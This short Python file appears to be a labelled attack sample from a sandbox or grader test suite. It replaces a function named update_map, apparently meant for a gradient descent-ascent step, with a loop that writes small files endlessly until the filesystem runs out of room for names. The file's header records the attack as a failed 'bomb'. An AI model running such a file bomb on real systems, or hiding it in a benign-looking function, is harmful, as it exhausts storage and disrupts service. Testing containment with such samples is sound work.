# attack: writes small files until there is no room for another name
# kind: bomb
# grade: 1.b
# outcome: failed, memory, timeout
# module: saddle

import itertools


def update_map(f, x, y, eta_x, eta_y, method="gda"):
    for number in itertools.count():
        with open(f"small{number}", "wb") as file:
            file.write(bytes(100_000 if number % 100 == 0 else 1))
